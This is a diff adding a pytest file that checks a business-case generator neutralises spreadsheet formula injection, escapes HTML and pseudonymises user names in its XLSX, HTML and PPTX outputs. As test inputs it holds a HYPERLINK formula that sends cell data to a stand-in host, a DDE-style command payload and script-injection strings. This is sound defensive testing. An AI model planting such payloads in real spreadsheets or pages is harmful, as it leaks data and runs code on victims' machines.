@@ -1,0 +1,211 @@
+"""Safe outputs in every business-case file: neutralised formulas, escaped HTML, no real names.
+
+Hostile names from the shared checklist go in through a usage export (and the customer and
+partner names); they must come out as text in the XLSX (a leading ``'``, string cells), escaped
+in the HTML, and, with pseudonymisation on, real user names appear in no file at all.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import html
+import io
+import json
+import re
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from copilot_roi.business.bundle import HTML_NAME, PPTX_NAME, SCENARIO_NAME, XLSX_NAME, render_all
+from copilot_roi.business.case import BusinessCase, build_case
+from copilot_roi.safe_cells import FORMULA_TRIGGERS
+from copilot_roi.usage import IngestOptions, UsageDataset, ingest_files, ingest_paths
+from copilot_roi.usage.analytics import actor_kind
+from copilot_roi.value.scenario import scenario_template
+
+REPO = Path(__file__).resolve().parents[2]
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+SUM(1,2)",
+    "-2+3",
+    "@cmd",
+    "\tTabbed",
+    "  =1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+)
+HOSTILE_PLUGINS = ("=EVIL()", "<b>Defender</b>")
+
+
+def hostile_usage() -> UsageDataset:
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(
+        ["Date", "Units used", "Initiated by", "Session ID", "Category", "Type", "Copilot experience",
+         "Plugins used"]
+    )  # fmt: skip
+    for i, name in enumerate(HOSTILE_NAMES):
+        writer.writerow(
+            [f"Sep 10, {8 + i % 4:02d}:{i:02d} AM", f"{1.5 + i / 10:.1f}", name, f"s{i}", "Prompt", "User",
+             "Standalone", HOSTILE_PLUGINS[i % 2]]
+        )  # fmt: skip
+    data = buffer.getvalue().encode()
+    return ingest_files([("hostile.csv", data)], IngestOptions(as_of=dt.date(2026, 10, 1)))
+
+
+@pytest.fixture(scope="module")
+def hostile_files() -> dict[str, bytes]:
+    case = build_case(
+        scenario_template("expected"),
+        usage=hostile_usage(),
+        customer_name="=cmd|' /C calc'!A0 <script>alert('c')</script>",
+        partner_name="<img src=x onerror=alert('p')>",
+        pseudonymise=False,
+        draws=200,
+    )
+    return render_all(case)
+
+
+def workbook_texts(data: bytes) -> list[tuple[str, str, object, str]]:
+    """(sheet, cell, value, data type) of every non-formula cell."""
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    found = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.value is not None and cell.data_type != "f":
+                    found.append((sheet.title, cell.coordinate, cell.value, cell.data_type))
+    return found
+
+
+def test_xlsx_text_that_a_spreadsheet_would_run_is_neutralised(hostile_files: dict[str, bytes]) -> None:
+    cells = workbook_texts(hostile_files[XLSX_NAME])
+    texts = [str(v) for _, _, v, t in cells if t == "s"]
+    for value in texts:
+        assert not value.lstrip(" ").startswith(FORMULA_TRIGGERS), value
+    for name in (*HOSTILE_NAMES, *HOSTILE_PLUGINS):
+        runs = name.lstrip(" ").startswith(FORMULA_TRIGGERS)
+        assert ("'" + name if runs else name) in texts, name  # there, as inert text
+    assert any("=cmd|' /C calc'!A0" in t for t in texts)  # the partner/customer line, as a string
+
+
+def test_xlsx_numbers_stay_numbers_including_negatives(hostile_files: dict[str, bytes]) -> None:
+    book = openpyxl.load_workbook(io.BytesIO(hostile_files[XLSX_NAME]), data_only=True)
+    usage = book["Usage"]
+    numbers = [
+        c.value for row in usage.iter_rows() for c in row if c.data_type == "n" and c.value is not None
+    ]
+    assert numbers and all(isinstance(n, int | float) for n in numbers)
+    sensitivity = book["Sensitivity"]
+    negatives = [
+        c.value for row in sensitivity.iter_rows() for c in row if isinstance(c.value, float) and c.value < 0
+    ]
+    assert negatives or all(b > 0 for b in [sensitivity["B3"].value])  # P10 may be positive
+    cash = book["Cash flow"]
+    assert isinstance(cash["B14"].value, float)  # month 1 capacity cost, a number
+
+
+def test_a_customer_name_alone_cannot_start_a_formula() -> None:
+    case = build_case(scenario_template("expected"), customer_name="@SUM(1+1)*cmd", draws=100)
+    texts = [str(v) for _, _, v, t in workbook_texts(render_all(case)[XLSX_NAME]) if t == "s"]
+    assert "'@SUM(1+1)*cmd, prepared" in " ".join(texts)
+
+
+def test_html_escapes_every_hostile_string(hostile_files: dict[str, bytes]) -> None:
+    page = hostile_files[HTML_NAME].decode()
+    body = page.split("</script>", 1)[1]  # past the inlined plotly.js bundle
+    for raw in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>Defender</b>"):
+        assert raw not in body
+    assert html.escape("<script>alert(1)</script>") in body
+    assert html.escape("<img src=x onerror=alert('p')>", quote=True) in body
+    assert re.search(r"<img|<[^>]*\bon\w+=|href=[\"']?javascript:", body, re.IGNORECASE) is None
+    assert "<script>alert(" not in page
+
+
+def test_pptx_and_json_carry_names_as_inert_text(hostile_files: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(io.BytesIO(hostile_files[PPTX_NAME])) as archive:
+        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
+    assert "<script>" not in xml and "&lt;script&gt;" in xml
+    json.loads(hostile_files[SCENARIO_NAME])  # valid JSON; names never go into the scenario
+
+
+# --- pseudonymisation --------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def sample_usage() -> UsageDataset:
+    paths = [
+        REPO / "sample_data" / "CapacityUsage.xlsx",
+        REPO / "sample_data" / "CapacityUsage_2026-10-01_EU.csv",
+    ]
+    return ingest_paths(paths, IngestOptions(as_of=dt.date(2026, 11, 21)))
+
+
+def real_names(usage: UsageDataset) -> list[str]:
+    people = usage.frame.loc[actor_kind(usage.frame) == "Person", "user"].astype(str).unique()
+    # Two-letter names such as "NA" would match unrelated bytes; everything else is checked.
+    return sorted(n for n in people if len(n.encode()) >= 5)
+
+
+def spellings(name: str) -> set[bytes]:
+    """How a name can be stored: raw, XML/HTML-escaped, JSON-escaped."""
+    forms = {
+        name,
+        html.escape(name, quote=True),
+        html.escape(name, quote=False),
+        name.replace("'", "&apos;"),
+        json.dumps(name)[1:-1],
+    }
+    return {f.encode() for f in forms}
+
+
+def file_texts(files: dict[str, bytes]) -> dict[str, bytes]:
+    """Every file's bytes, office files unzipped (sharedStrings, sheets, slides, charts)."""
+    out = {}
+    for name, data in files.items():
+        if name.endswith((".xlsx", ".pptx")):
+            with zipfile.ZipFile(io.BytesIO(data)) as archive:
+                for member in archive.namelist():
+                    out[f"{name}:{member}"] = archive.read(member)
+        else:
+            out[name] = data
+    return out
+
+
+def build_files(usage: UsageDataset, pseudonymise: bool) -> dict[str, bytes]:
+    case: BusinessCase = build_case(
+        scenario_template("expected"),
+        usage=usage,
+        pseudonymise=pseudonymise,
+        pseudonym_key=b"k" * 32,
+        draws=200,
+    )
+    return render_all(case)
+
+
+def test_pseudonymised_files_hold_no_real_name(sample_usage: UsageDataset) -> None:
+    names = real_names(sample_usage)
+    assert len(names) >= 20 and "Ben Heppard" in names
+    texts = file_texts(build_files(sample_usage, pseudonymise=True))
+    leaks = [
+        (member, name)
+        for name in names
+        for member, data in texts.items()
+        for form in spellings(name)
+        if form in data
+    ]
+    assert leaks == []
+    assert any(b"User " in data for member, data in texts.items() if "sharedStrings" in member)
+
+
+def test_the_leak_check_finds_names_when_pseudonymisation_is_off(sample_usage: UsageDataset) -> None:
+    """The scan above can fail: without pseudonymisation the names are in the workbook and the page."""
+    texts = file_texts(build_files(sample_usage, pseudonymise=False))
+    found = {name for name in real_names(sample_usage) for data in texts.values() if name.encode() in data}
+    assert "Ben Heppard" in found
+    assert any(b"Ben Heppard" in d for m, d in texts.items() if m.startswith(XLSX_NAME))
+    assert b"Ben Heppard" in texts[HTML_NAME]
